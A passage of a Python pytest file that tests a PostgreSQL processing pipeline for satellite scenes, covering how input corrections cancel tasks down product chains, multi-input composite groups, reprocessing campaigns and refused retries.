    tasks = dict(configured.execute("SELECT i.input_path, t.id FROM hrwsi.processing_task t "
                                    "JOIN hrwsi.input i ON i.id = t.input_id").fetchall())
    _processed(configured, tasks["/data/3.SAFE"], tasks["/data/2.SAFE"])
    old_input = configured.execute("SELECT input_id FROM hrwsi.processing_task WHERE id = %s",
                                   (tasks["/data/2.SAFE"],)).fetchone()[0]
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    new_task = configured.execute("SELECT id, depends_on FROM hrwsi.processing_task WHERE input_id = %s", (new_input,))
    assert new_task.fetchone()[1] == tasks["/data/3.SAFE"], "behind the scene before it, not its superseded self"
    assert configured.execute("SELECT state, series_tile, series_at FROM hrwsi.processing_task WHERE id = %s",
                              (tasks["/data/2.SAFE"],)).fetchone() == ("processed", None, None)
    insert_input(configured, "/data/1.SAFE", measured_at=NOW - timedelta(hours=1), published_at=NOW)
    later = configured.execute("SELECT t.depends_on FROM hrwsi.processing_task t JOIN hrwsi.input i ON i.id = t.input_id "
                               "WHERE i.input_path = '/data/1.SAFE'").fetchone()[0]
    new_id = configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = %s", (new_input,)).fetchone()[0]
    assert later == new_id, "a later scene follows the corrected one"


def test_a_task_that_waited_for_a_corrected_processed_scene_waits_for_the_one_before_when_it_moved(configured):
    """Found by review (with the above): the next scene's task, not started, waited for the processed old task
    of a scene whose correction moved it to another tile; it waits for the task before it now."""
    configured.execute("UPDATE hrwsi.processing_routine SET sequential_per_tile = true")
    for hours in (3, 2, 1):
        insert_input(configured, f"/data/{hours}.SAFE", measured_at=NOW - timedelta(hours=hours), published_at=NOW)
    tasks = dict(configured.execute("SELECT i.input_path, t.id FROM hrwsi.processing_task t "
                                    "JOIN hrwsi.input i ON i.id = t.input_id").fetchall())
    _processed(configured, tasks["/data/3.SAFE"], tasks["/data/2.SAFE"])
    old_input = configured.execute("SELECT input_id FROM hrwsi.processing_task WHERE id = %s",
                                   (tasks["/data/2.SAFE"],)).fetchone()[0]
    configured.execute("SELECT hrwsi.correct_input(%s, tile => '31TCH')", (old_input,))
    assert configured.execute("SELECT depends_on, state FROM hrwsi.processing_task WHERE id = %s",
                              (tasks["/data/1.SAFE"],)).fetchone() == (tasks["/data/3.SAFE"], "pending")


def test_a_campaign_reprocesses_a_corrected_scene_once_not_its_superseded_input(configured):
    """Found by review: hrwsi.reprocess took every processed input, the superseded one too, and reprocessed
    the old version of a corrected scene beside the corrected one."""
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    _processed(configured, configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = %s",
                                              (new_input,)).fetchone()[0])
    configured.execute("SELECT * FROM hrwsi.reprocess(routine => 'maja', measured_from => %s, measured_to => %s)",
                       (NOW - timedelta(days=2), NOW))
    assert configured.execute("SELECT input_id FROM hrwsi.processing_task WHERE campaign_id IS NOT NULL").fetchall() \
        == [(new_input,)]


def test_a_campaign_leaves_out_an_input_chained_from_a_product_a_correction_outdated_and_says_how_many(configured):
    """Found by review (migration 0107): the correction cancels the open tasks down the old input's chain but keeps
    their inputs, and a processed one's input was reprocessed by a campaign, in READ COMMITTED too: the campaign made
    a snow cover from the old version's L2A, beside the corrected chain's. It is left out, and the answer says so."""
    _chain(configured)
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    old_snow = _made(configured, old_task, "/p/a.L2A", "L2A", "snow")
    _processed(configured, old_snow)
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    reprocess = ("SELECT * FROM hrwsi.reprocess(routine => 'snow', measured_from => %s, measured_to => %s, "
                 "again => true)", (NOW - timedelta(days=2), NOW))
    # Before the corrected input's chain has made its snow cover: nothing to reprocess, saying what was left out.
    with pytest.raises(psycopg.errors.NoDataFound) as nothing:
        made = configured.execute(*reprocess).fetchone()
        pytest.fail(f"a campaign reprocessed the old version's /p/a.L2A: {made}")
    assert nothing.value.diag.message_primary.endswith(
        "was processed; 1 input(s) left out, chained from products of an old version, which a correction outdated (the "
        "corrected input's chain makes them anew)")
    new_task = configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = %s", (new_input,)).fetchone()[0]
    new_snow = _made(configured, new_task, "/p/a2.L2A", "L2A", "snow")
    _processed(configured, new_snow)
    [(campaign, tasks, summary)] = configured.execute(*reprocess).fetchall()
    assert configured.execute("SELECT i.input_path FROM hrwsi.processing_task t JOIN hrwsi.input i ON i.id = t.input_id "
                              "WHERE t.campaign_id = %s", (campaign,)).fetchall() == [("/p/a2.L2A",)], \
        "the campaign reprocesses the corrected chain's product alone"
    assert tasks == 1
    assert summary.endswith("; 1 input(s) left out, chained from products of an old version, which a correction outdated "
                            "(the corrected input's chain makes them anew)")


def test_a_campaign_reads_the_inputs_of_its_range_in_the_statement_that_makes_its_tasks_and_counts_those_left_out(
        configured):
    """(found by review: hrwsi.reprocess counted the inputs it leaves out, migration 0107, in a statement of its own,
    which read every input of the range a second time; migration 0109) The inputs of the range are read once to make
    the tasks and count those left out: 300 inputs read 900 times in all, now 600 (the other read is the composites'
    statement, which joins a campaign's tasks to their inputs)."""
    configured.execute("INSERT INTO hrwsi.input (processing_condition, input_path, tile, mission, measured_at, published_at) "
                       "SELECT 'l1c', '/data/s' || g || '.SAFE', '32TPR', 'S2A', %s - g * interval '1 minute', %s "
                       "FROM generate_series(1, 300) g", (NOW - timedelta(hours=30), NOW - timedelta(hours=20)))
    configured.execute("UPDATE hrwsi.processing_task SET state = 'dispatched', worker = 'w1', planned_start = now()")
    configured.execute("UPDATE hrwsi.processing_task SET state = 'processed'")
    configured.execute("ANALYZE hrwsi.input")
    configured.commit()
    with configured.transaction():  # (pg_stat_xact_user_tables: this transaction's reads)
        [(_, tasks, _)] = configured.execute("SELECT * FROM hrwsi.reprocess(routine => 'maja', measured_from => %s, "
                                             "measured_to => %s)", (NOW - timedelta(days=3), NOW)).fetchall()
        read = configured.execute("SELECT seq_tup_read + idx_tup_fetch FROM pg_stat_xact_user_tables "
                                  "WHERE relid = 'hrwsi.input'::regclass").fetchone()[0]
    assert tasks == 300
    assert read <= 2 * 300, f"the inputs of the range were read {read} times, {read / 300:g} times each"


def _chain(db):
    """maja (L1C -> L2A), then snow (L2A -> FSC), then qa (FSC -> QA): a chain of three steps."""
    for name, reads, makes in (("snow", "L2A", "FSC"), ("qa", "FSC", "QA")):
        db.execute("INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration, command, "
                   "input_product_type, output_product_type) VALUES (%s, 1, 1000, 100, '5 min', ARRAY['true'], %s, %s)",
                   (name, reads, makes))
        db.execute("INSERT INTO hrwsi.processing_condition (name, routine) VALUES (%s, %s)", (name, name))


def _made(db, task, path, product_type, condition):
    """`task` processed, its product chained into `condition`: the task made from it."""
    if db.execute("SELECT state FROM hrwsi.processing_task WHERE id = %s", (task,)).fetchone()[0] != "processed":
        _processed(db, task)
    product = db.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) VALUES (%s, %s, %s, now()) "
                         "RETURNING id", (task, path, product_type)).fetchone()[0]
    insert_input(db, path, processing_condition=condition, source="chaining", product_id=product)
    return db.execute("SELECT t.id FROM hrwsi.processing_task t JOIN hrwsi.input i ON i.id = t.input_id "
                      "WHERE i.product_id = %s", (product,)).fetchone()[0]


def test_a_correction_cancels_the_tasks_made_down_a_chain_from_the_old_inputs_products(configured):
    """Found by review: the input chained from a product of the old input's processed task stayed, and its task
    ran from the old version, as did the steps after it. Those tasks are cancelled, their reason naming the
    correction; one that was processed keeps its state and history, out of its time series."""
    _chain(configured)
    configured.execute("UPDATE hrwsi.processing_routine SET sequential_per_tile = true WHERE name = 'snow'")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    snow = _made(configured, old_task, "/p/a.L2A", "L2A", "snow")
    qa = _made(configured, snow, "/p/a.FSC", "FSC", "qa")
    other_snow = _made(configured, old_task, "/p/a2.L2A", "L2A", "snow")  # (a second product: not processed yet)
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    why = (f"made down a chain from the products of input {old_input}, which was corrected: input {new_input} "
           "replaces it, and its task's products chain anew")
    rows = configured.execute("SELECT id, state, state_reason, series_tile FROM hrwsi.processing_task "
                              "WHERE id = ANY (%s) ORDER BY id", ([snow, qa, other_snow],)).fetchall()
    assert rows == sorted([(snow, "processed", None, None), (qa, "cancelled", why, None),
                           (other_snow, "cancelled", why, None)])
    assert configured.execute("SELECT count(*) FROM hrwsi.input WHERE product_id IS NOT NULL").fetchone()[0] == 3, \
        "their inputs stay"



def test_a_task_a_correction_cancelled_down_a_chain_is_not_retried_and_says_which_correction(configured):
    """Found by review: `hrwsi retry` of a task the correction cancelled down the old input's chain ran it from the
    old version's product again, beside the corrected input's chain. Refused as the old input's own task is."""
    _chain(configured)
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    snow = _made(configured, old_task, "/p/a.L2A", "L2A", "snow")
    qa = _made(configured, snow, "/p/a.FSC", "FSC", "qa")
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    assert configured.execute("SELECT state FROM hrwsi.processing_task WHERE id = %s", (qa,)).fetchone()[0] == "cancelled"
    with pytest.raises(psycopg.errors.CheckViolation) as refused:  # (two steps down: snow's product made its input)
        configured.execute("SELECT hrwsi.retry_task(%s)", (qa,))
    assert refused.value.diag.message_primary == (
        f"task {qa} was made down a chain from the products of input {old_input}, which input {new_input} "
        "corrects: it is not retried")
    # (`hrwsi retry --routine qa --state cancelled` leaves it out, as refused)
    listed = configured.execute(sql_files.query("report_tasks_to_retry"), {"routine": "qa", "state": "cancelled", "limit": 100})
    assert listed.fetchall() == []

def test_the_old_versions_products_a_harvester_had_not_chained_yet_start_no_chain_after_a_correction(configured):
    """Found by review (with the above): a product of the old input's task (or of a task down its chain) that the
    harvester had not chained when the input was corrected (stopped, or behind) was chained after, and started
    the old version's chain again."""
    from hrwsi.sql_files import query
    _chain(configured)
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    snow = _made(configured, old_task, "/p/a.L2A", "L2A", "snow")
    _processed(configured, snow)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type) VALUES (%s, '/p/b.L2A', 'L2A'), "
                       "(%s, '/p/a.FSC', 'FSC')", (old_task, snow))
    configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,))
    assert configured.execute(query("chain_products").replace("$1", "100")).fetchone() == (0, 0)
    assert configured.execute("SELECT count(*) FROM hrwsi.product WHERE chained_at IS NULL").fetchone()[0] == 0


def _daily_group(db, reads):
    """A multi-input condition, daily, of routine composite: one group per tile and day of what it `reads`."""
    db.execute("INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration, command, "
               "input_product_type, output_product_type) VALUES ('composite', 1, 1000, 100, '5 min', ARRAY['true'], "
               "%s, 'CMP')", (reads,))
    db.execute("INSERT INTO hrwsi.processing_condition (name, routine) VALUES ('daily', 'composite')")
    db.execute("INSERT INTO hrwsi.multi_input_rule (processing_condition) VALUES ('daily')")
    db.execute("INSERT INTO hrwsi.multi_input_requirement VALUES ('daily', %s, 1)", (reads,))


def _make_groups(db):
    return db.execute(sql_files.query("multi_input_create_complete_groups").replace("$1", "%(now)s"),
                      {"now": datetime.now(UTC)}).fetchone()


def _groups(db):
    """The groups of condition daily: (superseded_by, members, state of its task)."""
    return db.execute("SELECT g.superseded_by, ARRAY(SELECT m.member_path FROM hrwsi.multi_input_member m "
                      "WHERE m.input_id = g.id ORDER BY 1), t.state FROM hrwsi.input g "
                      "JOIN hrwsi.processing_task t ON t.input_id = g.id WHERE g.processing_condition = 'daily' "
                      "ORDER BY g.id").fetchall()


@pytest.mark.parametrize("member", ["a product of its task", "the input itself"])
def test_a_correction_cancels_a_groups_task_made_from_the_old_version_and_the_group_is_made_anew(configured, member):
    """Found by review: the walk down a chain followed the inputs chained from the old version's products only, so a
    multi-input group made from one of them (or from the old input itself) kept its task, which ran from the old
    version. Its task is cancelled, saying why; the group is superseded and made anew from the members there are
    then, the old version's product not among them."""
    _daily_group(configured, "L2A" if member == "a product of its task" else "L1C")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                       "VALUES (%s, '/p/a.L2A', 'L2A', now())", (old_task,))
    assert _make_groups(configured)[0] == 1
    old_member = "/p/a.L2A" if member == "a product of its task" else "/data/a.SAFE"
    assert _groups(configured) == [(None, [old_member], "pending")]
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    assert _groups(configured) == [(new_input, [old_member], "cancelled")]
    reason = configured.execute("SELECT t.state_reason FROM hrwsi.processing_task t JOIN hrwsi.input g "
                                "ON g.id = t.input_id WHERE g.processing_condition = 'daily'").fetchone()[0]
    assert reason == (f"its multi-input group was made from input {old_input} or down its chain, which was corrected: "
                      f"input {new_input} replaces it, and the group is made anew")
    if member == "a product of its task":
        new_task = configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = %s", (new_input,)).fetchone()[0]
        assert _make_groups(configured)[0] == 0, "the group waits for the corrected input's task"
        _processed(configured, new_task)
        configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                           "VALUES (%s, '/p/a2.L2A', 'L2A', now())", (new_task,))
        # (`hrwsi groups` meanwhile: a group to make, not a composite that lacks the corrected member)
        assert (reports.incomplete_groups(configured)["total"], reports.late_group_members(configured)["total"]) == (1, 0)
    assert _make_groups(configured)[0] == 1
    new_member = "/p/a2.L2A" if member == "a product of its task" else "/data/a.SAFE"
    assert _groups(configured)[1] == (None, [new_member], "pending"), "made anew from the corrected version"


@pytest.mark.parametrize("member", ["a product of its task", "the input itself"])
def test_two_members_of_one_group_corrected_in_a_row_both_take_effect_and_the_group_is_made_once_from_the_newest(
        configured, member):
    """(checked after review: the second correction leaves alone the group the first one superseded) What a data
    engineer correcting two members of a group in a row expects: both corrections take effect, and the group is made
    anew once, from the two corrected members, none of the old version's."""
    _daily_group(configured, "L2A" if member == "a product of its task" else "L1C")
    insert_input(configured, "/data/a.SAFE")
    insert_input(configured, "/data/b.SAFE")
    old = configured.execute("SELECT input_id, id FROM hrwsi.processing_task ORDER BY id").fetchall()
    for (_, task), path in zip(old, ("/p/a.L2A", "/p/b.L2A"), strict=True):
        _processed(configured, task)
        configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                           "VALUES (%s, %s, 'L2A', now())", (task, path))
    assert _make_groups(configured)[0] == 1
    old_members = ["/p/a.L2A", "/p/b.L2A"] if member == "a product of its task" else ["/data/a.SAFE", "/data/b.SAFE"]
    first = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old[0][0],)).fetchone()[0]
    second = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old[1][0],)).fetchone()[0]
    assert _groups(configured) == [(first, old_members, "cancelled")]
    assert configured.execute("SELECT i.id, i.mission, i.superseded_by, t.state FROM hrwsi.input i JOIN hrwsi.processing_task t "
                              "ON t.input_id = i.id WHERE i.source <> 'multi_input' ORDER BY i.id").fetchall() == [
        (old[0][0], "S2A", first, "processed"), (old[1][0], "S2A", second, "processed"),
        (first, "S2B", None, "pending"), (second, "S2B", None, "pending")], "both corrections took effect"
    assert configured.execute("SELECT count(*) FROM hrwsi.product WHERE outdated_by IS NULL").fetchone()[0] == 0
    if member == "a product of its task":
        new_tasks = [r[0] for r in configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = ANY (%s) "
                                                      "ORDER BY id", ([first, second],))]
        _processed(configured, new_tasks[0])
        configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                           "VALUES (%s, '/p/a2.L2A', 'L2A', now())", (new_tasks[0],))
        assert _make_groups(configured)[0] == 0, "the group waits for the second corrected member too"
        _processed(configured, new_tasks[1])
        configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                           "VALUES (%s, '/p/b2.L2A', 'L2A', now())", (new_tasks[1],))
    assert _make_groups(configured)[0] == 1
    assert _make_groups(configured)[0] == 0, "made once"
    new_members = ["/p/a2.L2A", "/p/b2.L2A"] if member == "a product of its task" else ["/data/a.SAFE", "/data/b.SAFE"]
    assert _groups(configured) == [(first, old_members, "cancelled"), (None, new_members, "pending")]


def test_an_input_is_not_corrected_while_a_groups_task_made_from_its_products_runs(configured):
    _daily_group(configured, "L2A")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                       "VALUES (%s, '/p/a.L2A', 'L2A', now())", (old_task,))
    _make_groups(configured)
    group_task = configured.execute("SELECT max(id) FROM hrwsi.processing_task").fetchone()[0]
    configured.execute("UPDATE hrwsi.processing_task SET state = 'dispatched', worker = 'w1', planned_start = now(), "
                       "attempts = 1 WHERE id = %s", (group_task,))
    with pytest.raises(psycopg.errors.ObjectInUse) as refused:
        configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,))
    assert str(refused.value.diag.message_primary) == (
        f"input {old_input} cannot be corrected now: task {group_task} (routine composite) made from it down a chain, "
        "from its products, is dispatched")
    assert configured.execute("SELECT count(*) FROM hrwsi.input WHERE superseded_by IS NOT NULL").fetchone()[0] == 0


def test_an_input_is_not_corrected_while_the_task_of_a_group_it_is_a_member_of_runs_and_says_so(configured):
    """Found by review (migration 0102): the refusal said such a task was made from it "down a chain, from its
    products", which it was not: the old input itself is the group's member."""
    _daily_group(configured, "L1C")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    _make_groups(configured)
    group_task = configured.execute("SELECT max(id) FROM hrwsi.processing_task").fetchone()[0]
    configured.execute("UPDATE hrwsi.processing_task SET state = 'dispatched', worker = 'w1', planned_start = now(), "
                       "attempts = 1 WHERE id = %s", (group_task,))
    with pytest.raises(psycopg.errors.ObjectInUse) as refused:
        configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,))
    assert str(refused.value.diag.message_primary) == (
        f"input {old_input} cannot be corrected now: task {group_task} (routine composite), the task of a multi-input "
        "group it is a member of, is dispatched")
    assert refused.value.diag.message_detail == (
        "Its attempt reads the old input as a member of its group, which the correction makes anew.")


def test_the_retry_of_a_group_task_a_correction_cancelled_says_the_group_is_made_anew_and_which_task_does_its_work(
        configured):
    """Found by review (migration 0102): the refusal said "task T was made from input G, which input N corrects", G the
    group and N the corrected member's input: no input corrects a group. It says the group is made anew, and which task
    does its work now (none yet: the harvester makes it once it is complete)."""
    _daily_group(configured, "L2A")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                       "VALUES (%s, '/p/a.L2A', 'L2A', now())", (old_task,))
    _make_groups(configured)
    group, group_task, path = configured.execute(
        "SELECT g.id, t.id, g.input_path FROM hrwsi.input g JOIN hrwsi.processing_task t ON t.input_id = g.id "
        "WHERE g.source = 'multi_input'").fetchone()
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    said = f"task {group_task} ran multi-input group {path} (input {group}), which was made anew when input {old_input} " \
           f"was corrected (input {new_input} replaces it)"
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        configured.execute("SELECT hrwsi.retry_task(%s)", (group_task,))
    assert refused.value.diag.message_primary == (
        said + ": the harvester makes the new group once it is complete, and its task does the work (`hrwsi groups` "
        "lists it): it is not retried")
    assert refused.value.diag.message_hint == (  # (it said "the corrected input's task runs instead": migration 0107)
        "the new group's task does its work (`hrwsi groups` lists the groups, `hrwsi tasks` their tasks)")
    new_task = configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = %s", (new_input,)).fetchone()[0]
    _processed(configured, new_task)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                       "VALUES (%s, '/p/a2.L2A', 'L2A', now())", (new_task,))
    _make_groups(configured)
    new_group, new_group_task = configured.execute(
        "SELECT g.id, t.id FROM hrwsi.input g JOIN hrwsi.processing_task t ON t.input_id = g.id "
        "WHERE g.source = 'multi_input' AND g.superseded_by IS NULL").fetchone()
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        configured.execute("SELECT hrwsi.retry_task(%s)", (group_task,))
    assert refused.value.diag.message_primary == (
        said + f": task {new_group_task}, of the new group (input {new_group}), does its work: it is not retried")


def test_a_task_down_a_chain_from_a_groups_product_is_not_retried_and_names_the_input_corrected(configured):
    """Found by review (migration 0102): the retry's walk up a chain followed chained inputs alone, and named the
    superseded group as the input corrected; it follows a group's members too, up to the input corrected."""
    _daily_group(configured, "L2A")
    configured.execute("INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration, command, "
                       "input_product_type, output_product_type) VALUES ('after', 1, 1000, 100, '5 min', ARRAY['true'], "
                       "'CMP', 'AFT')")
    configured.execute("INSERT INTO hrwsi.processing_condition (name, routine) VALUES ('after', 'after')")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    _processed(configured, old_task)
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, chained_at) "
                       "VALUES (%s, '/p/a.L2A', 'L2A', now())", (old_task,))
    _make_groups(configured)
    group_task = configured.execute("SELECT max(id) FROM hrwsi.processing_task").fetchone()[0]
    after = _made(configured, group_task, "/p/a.CMP", "CMP", "after")
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    assert configured.execute("SELECT state FROM hrwsi.processing_task WHERE id = %s", (after,)).fetchone()[0] == "cancelled"
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        configured.execute("SELECT hrwsi.retry_task(%s)", (after,))
    assert refused.value.diag.message_primary == (
        f"task {after} was made down a chain from the products of input {old_input}, which input {new_input} "
        "corrects: it is not retried")
    listed = configured.execute(sql_files.query("report_tasks_to_retry"), {"routine": "after", "state": "cancelled", "limit": 100})
    assert listed.fetchall() == []


def _a_processed_group_of_the_input_itself(db):
    """A daily group whose member is the input itself (not chained from a product), its task processed: (the input,
    the group's task)."""
    _daily_group(db, "L1C")
    insert_input(db)
    [old_input] = db.execute("SELECT id FROM hrwsi.input").fetchone()
    _make_groups(db)
    group_task = db.execute("SELECT t.id FROM hrwsi.processing_task t JOIN hrwsi.input g ON g.id = t.input_id "
                            "WHERE g.source = 'multi_input'").fetchone()[0]
    _processed(db, group_task)
    return old_input, group_task


def test_the_retry_list_leaves_out_the_chain_a_correction_walks_down_every_way(configured):
    """Found by review (migration 0107): the walk down a chain was written twice, in hrwsi.correct_input and in
    `hrwsi retry --routine R`'s list, and the two had drifted. One walk, hrwsi.tasks_down_a_chain: what the correction
    walks down from the old input (a chained input, a group, a campaign's composite reading its product, and the step
    after) is what the list leaves out, and a task outside it is listed."""
    _chain(configured)
    _daily_group(configured, "L2A")
    insert_input(configured)
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    snow = _made(configured, old_task, "/p/a.L2A", "L2A", "snow")
    _make_groups(configured)
    group_task = configured.execute("SELECT t.id FROM hrwsi.processing_task t JOIN hrwsi.input g ON g.id = t.input_id "
                                    "WHERE g.source = 'multi_input'").fetchone()[0]
    _processed(configured, group_task)
    [(campaign,)] = configured.execute("SELECT campaign_id FROM hrwsi.reprocess(routine => 'composite', measured_from => %s, "
                                       "measured_to => %s)", (NOW - timedelta(days=3), NOW))
    composite = configured.execute("SELECT id FROM hrwsi.processing_task WHERE campaign_id = %s", (campaign,)).fetchone()[0]
    qa = _made(configured, snow, "/p/a.FSC", "FSC", "qa")
    walk = "SELECT array_agg(id ORDER BY id) FROM hrwsi.tasks_down_a_chain(%s) id"
    walked = configured.execute(walk, ([old_input],)).fetchone()[0]
    assert walked == sorted([old_task, snow, group_task, composite, qa])
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, mission => 'S2B')", (old_input,)).fetchone()[0]
    assert configured.execute("SELECT array_agg(id ORDER BY id) FROM hrwsi.processing_task WHERE state = 'cancelled'"
                              ).fetchone()[0] == sorted([composite, qa]), "the correction cancelled the open ones it walked"
    superseded = [row[0] for row in configured.execute("SELECT id FROM hrwsi.input WHERE superseded_by = %s", (new_input,))]
    assert configured.execute(walk, (superseded,)).fetchone()[0] == walked, "the list's walk, after the correction"
    for routine in ("maja", "snow", "qa", "composite"):
        for state in ("cancelled", "processed"):
            listed = configured.execute(sql_files.query("report_tasks_to_retry"),
                                        {"routine": routine, "state": state, "limit": 100}).fetchall()
            assert listed == [], (routine, state)
    new_task = configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = %s", (new_input,)).fetchone()[0]
    configured.execute("SELECT hrwsi.cancel_task(%s)", (new_task,))
    assert configured.execute(sql_files.query("report_tasks_to_retry"),
                              {"routine": "maja", "state": "cancelled", "limit": 100}).fetchall() == [(new_task, 1)]


def test_an_input_corrected_twice_under_its_path_leaves_no_composite_of_an_older_version_current(configured):
    """(checked after review: the correction marks only the composites not marked yet, `outdated_by IS NULL`, and a
    group not superseded yet) An input corrected twice, keeping its path: each group and each campaign's composite that
    read a version is marked by that version's correction, and stays so; the one of the newest version alone is
    current, and `hrwsi retry` of an older one names the version it read."""
    _daily_group(configured, "L1C")
    insert_input(configured, "/data/a.SAFE")
    versions = [configured.execute("SELECT id FROM hrwsi.input WHERE input_path = '/data/a.SAFE'").fetchone()[0]]
    campaigns = []
    for _ in range(2):
        assert _make_groups(configured)[0] == 1
        group_task = configured.execute("SELECT max(t.id) FROM hrwsi.processing_task t JOIN hrwsi.input g "
                                        "ON g.id = t.input_id WHERE g.source = 'multi_input'").fetchone()[0]
        _processed(configured, group_task)
        [(campaign,)] = configured.execute("SELECT campaign_id FROM hrwsi.reprocess(routine => 'composite', measured_from "
                                           "=> %s, measured_to => %s, again => true)", (NOW - timedelta(days=3), NOW))
        composite = configured.execute("SELECT id FROM hrwsi.processing_task WHERE campaign_id = %s", (campaign,)).fetchone()[0]
        configured.execute("UPDATE hrwsi.processing_task SET state = 'dispatched', worker = 'w1', planned_start = now() "
                           "WHERE id = %s", (composite,))
        configured.execute("UPDATE hrwsi.processing_task SET state = 'terminated' WHERE id = %s", (composite,))
        # (ended: not cancelled by the correction, only marked)
        campaigns.append((campaign, composite))
        versions.append(configured.execute("SELECT hrwsi.correct_input(%s, mission => %s)",
                                           (versions[-1], f"S2{len(versions)}")).fetchone()[0])
    assert _make_groups(configured)[0] == 1
    groups = configured.execute("SELECT g.superseded_by FROM hrwsi.input g WHERE g.source = 'multi_input' ORDER BY g.id")
    assert [row[0] for row in groups] == [versions[1], versions[2], None], "each group marked by its version's correction"
    marks = configured.execute("SELECT c.task_id, c.outdated_by FROM hrwsi.multi_input_campaign_member c ORDER BY 1")
    assert marks.fetchall() == [(campaigns[0][1], versions[1]), (campaigns[1][1], versions[2])]
    assert configured.execute(sql_files.query("report_tasks_to_retry"),
                              {"routine": "composite", "state": "terminated", "limit": 100}).fetchall() == []
    for (campaign, composite), (read, corrected_by) in zip(campaigns, zip(versions, versions[1:], strict=False), strict=True):
        with pytest.raises(psycopg.errors.CheckViolation) as refused:
            configured.execute("SELECT hrwsi.retry_task(%s)", (composite,))
        assert refused.value.diag.message_primary == (
            f"task {composite}, a composite of campaign {campaign}, was made from member /data/a.SAFE of input {read}, "
            f"which input {corrected_by} corrects: it is not retried")


def test_a_campaigns_composite_that_read_the_corrected_input_is_not_retried_whenever_the_correction_began(
        configured, database_url):
    """Found by review: a campaign's composite whose member is the corrected input itself was told apart by creation
    times (the corrected input made after the composite: it read the old one). A time is its transaction's start: a
    correction in a transaction begun before the campaign was started made the corrected input "older" than the
    composite, which `hrwsi retry` then ran again, reading the old version. The correction marks what it outdated."""
    _daily_group(configured, "L1C")
    insert_input(configured, "/data/b.SAFE")
    _make_groups(configured)  # (of b alone; a, of the same tile and day, arrives after: a member of no group)
    _processed(configured, configured.execute("SELECT t.id FROM hrwsi.processing_task t JOIN hrwsi.input g "
                                              "ON g.id = t.input_id WHERE g.source = 'multi_input'").fetchone()[0])
    insert_input(configured, "/data/a.SAFE")
    old_input = configured.execute("SELECT id FROM hrwsi.input WHERE input_path = '/data/a.SAFE'").fetchone()[0]
    correcting = psycopg.connect(database_url)
    try:
        correcting.execute("SELECT 1")  # (its transaction begins: now() there is before the campaign's)
        [(campaign,)] = configured.execute("SELECT campaign_id FROM hrwsi.reprocess(routine => 'composite', "
                                           "measured_from => %s, measured_to => %s)", (NOW - timedelta(days=3), NOW))
        composite = configured.execute("SELECT id FROM hrwsi.processing_task WHERE campaign_id = %s",
                                       (campaign,)).fetchone()[0]
